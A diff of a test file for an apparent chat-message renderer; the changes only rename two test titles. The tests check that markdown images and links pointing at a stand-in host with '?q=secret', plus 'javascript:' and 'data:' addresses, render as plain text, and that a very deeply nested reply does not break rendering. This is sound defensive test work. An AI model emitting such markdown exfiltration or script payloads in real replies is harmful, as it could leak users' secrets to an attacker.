@@ -37,14 +37,14 @@ test.each([
   ['an image', '![pixel](https://evil.test/?q=secret)'],
   ['a link', '[Open **this**](https://evil.test/?q=secret) and <https://evil.test/2>'],
   ['a script address', '[x](javascript:alert(1)) [y]: data:text/html,1'],
-])('makes nothing of %s but letters', async (_what, response) => {
+])('renders %s as plain text', async (_what, response) => {
   await ask(response);
   const list = screen.getByRole('group', { name: 'Messages' });
   expect(list.querySelector('img, a, script, iframe, [onerror]')).toBeNull();
   for (const part of response.match(/https:[^\s)>]+|alert\(1\)/g) ?? []) expect(list.textContent).toContain(part);
 });
 
-test('draws a reply that is nested beyond measure, or long, without failing', async () => {
+test('renders a deeply nested or long reply without failing', async () => {
   await ask(`${'>'.repeat(5_000)} deep`);
   expect(messages().getByText(/deep/)).toBeVisible();
 });
